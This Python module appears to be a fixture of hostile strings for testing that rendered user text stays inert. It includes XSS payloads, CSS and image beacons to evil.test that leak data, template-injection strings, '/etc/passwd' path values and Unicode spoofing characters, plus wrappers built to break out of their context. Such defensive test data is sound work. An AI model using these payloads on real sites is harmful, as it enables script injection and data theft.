"""Text that tries to become more than text, for every place where text of others is shown."""

from __future__ import annotations

HTML = (
    "<script>window.hit=1</script>",
    "</script><script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    '"><img src=x onerror=window.hit=1>',
    "'><svg onload=window.hit=1>",
    '" onmouseover="window.hit=1" x="',
    "' onfocus='window.hit=1' autofocus x='",
    "<svg><script>window.hit=1</script></svg>",
    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
    "<iframe src=javascript:window.hit=1></iframe>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<object data=data:text/html,<script>1</script>></object>",
    "<embed src=//evil.test/x.swf>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>@import '//evil.test/x.css';</style>",
    "<style>*{background:url(//evil.test/?q)}</style>",
    "<p style='background:url(//evil.test/x)'>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<base href=//evil.test/>",
    "<form action=//evil.test><input name=q><button>go</button></form>",
    "<button data-open=\"0:c:0\">fake mark</button>",
    "<input type=file autofocus onfocus=window.hit=1>",
    "<details open ontoggle=window.hit=1>x</details>",
    "<video><source onerror=window.hit=1></video>",
    "<audio src=x onerror=window.hit=1>",
    "<a href=\"javascript:window.hit=1\">link</a>",
    "<math><mi//xlink:href=\"data:x,<script>window.hit=1</script>\">",
    "<template><script>window.hit=1</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.hit=1>\">",
    "<textarea></textarea><img src=x onerror=window.hit=1>",
    "<title></title><img src=x onerror=window.hit=1>",
    "<!--><img src=x onerror=window.hit=1>-->",
    "<![CDATA[<img src=x onerror=window.hit=1>]]>",
    "<?xml version='1.0'?><x/>",
    "<mark id=cd-quote>not the quote</mark>",
    "</mark></div></article><h1>outside</h1>",
    "</details></section><img src=x>",
    "</button></li></ul><p>outside",
    "<<script>script>window.hit=1<</script>/script>",
    "<scr\u200bipt>window.hit=1</scr\u200bipt>",
    "<\x00script>window.hit=1</script>",
    "＜script＞window.hit=1＜/script＞",
)  # fmt: skip
ENTITIES = (
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.hit=1&#62;",
    "&#x3c;img src=x&#x3e;",
    "&amp;lt;b&amp;gt;",
    "&quot; onclick=&quot;window.hit=1",
    "&NewLine;&Tab;&colon;",
    "AT&T & Co &copy &nope; &#0; &#xD800;",
)
MARKDOWN = (
    "![x](https://evil.test/?q=secret)",
    "[click](javascript:window.hit=1)",
    "[click](https://evil.test)",
    "![a][b]\n\n[b]: https://evil.test/p.png",
    "<https://evil.test>",
    "https://evil.test/auto",
    "`<img src=x>`",
    "```html\n<script>window.hit=1</script>\n```",
    '```mermaid\ngraph TD; A-->B; click A "javascript:window.hit=1"\n```',
    "# heading\n\n- list\n\n> quote",
    "| a | b |\n|---|---|\n| <img src=x> | 1 |",
    "$$\\href{javascript:window.hit=1}{x}$$",
    "\\(\\unicode{<img src=x>}\\) $\\text{x}$ \\[y\\]",
)
TEMPLATES = (
    "${window.hit=1}",
    "`${window.hit=1}`",
    "{{value}} {{{value}}} {{#each value}}{{this}}{{/each}}",
    "{{constructor.constructor('window.hit=1')()}}",
    "<%= 7*7 %> #{7*7} {7*7} %(title)s {0.__class__}",
    "@children",
    "\\x3cscript\\x3ewindow.hit=1\\x3c/script\\x3e",
    '__i18n__{"__type__":"translation_metadata","key":"common.submit"}',
    '{"path":"/etc/passwd","meta":{"_type":"gradio.FileData"}}',
)
UNSEEN = (
    "abc\u202ecba\u202c",
    "\u2066hidden\u2069 \u200f\u200e",
    "ta\U000e0073\U000e0065\U000e0063gs",
    "zero\u200bwidth\u200c\u200d\u2060\ufeff",
    "\u115f\u1160\u3164\uffa0 filler",
    "vari\ufe00\U000e0100ation",
    "\x1b[31mansi\x1b[0m \x07\x08",
    "nul\x00 del\x7f c1\x9b",
    "soft\u00adhyphen \u034f\u061c",
    "lone \ud800 surrogate \udfff",
    "line\u2028sep\u2029par",
)
PLAIN = (
    "한글 자모 ㄱㄴㄷ",
    "\u1112\u1161\u11ab\u1100\u1173\u11af",
    "e\u0301 a\u0328\u0301",
    "👩\u200d👩\u200d👧 👍🏽 🏳️\u200d🌈",
    "‘인용’ “quote” — …",
)
ALL = HTML + ENTITIES + MARKDOWN + TEMPLATES + UNSEEN + PLAIN
ADDRESSES = (
    "javascript:window.hit=1",
    "JaVaScRiPt:window.hit=1",
    " javascript:window.hit=1",
    "java\nscript:window.hit=1",
    "\x01javascript:window.hit=1",
    "data:text/html,<script>window.hit=1</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://x/1",
    "//evil.test/x",
    "/gradio_api/file=/etc/passwd",
    "https://good.example@evil.test/",
    "https://good.example\\@evil.test/",
    'https://evil.test/"onmouseover=window.hit=1',
    "https://evil.test/'onmouseover='window.hit=1",
    "https://evil.test/<img src=x>",
    "https://evil.test/\u202egpj.exe",
    "https://ev\u200bil.test/",
    "https://[::1",
    "https://",
    "http:evil.test",
    "https:///evil.test",
    "ftp://evil.test/",
    "https://a b.test/",
    "https://xn--\u0000.test",
    "https://" + "a" * 70 + ".test/",
)
_AROUND = ("{}", '">{}', "'>{}", "</textarea></title>{}", "<!-- {} -->", "]]>{}", "<b>{}</b>", "`{}`", "{}\n\n{}")
"""What payloads are put into, to break out of where they are shown."""
_LINKS = ("[x]({})", '<a href="{}">x</a>', "<img src='{}'>", "<form action='{}'><button>x</button></form>", "{}")
MANY = tuple(
    dict.fromkeys(
        [around.replace("{}", text) for around in _AROUND for text in HTML + ENTITIES + MARKDOWN + TEMPLATES]
        + [link.replace("{}", address) for link in _LINKS for address in ADDRESSES]
        + [*UNSEEN, *PLAIN]
    )
)
"""Script, markup and links in many wrappings, for the browser."""
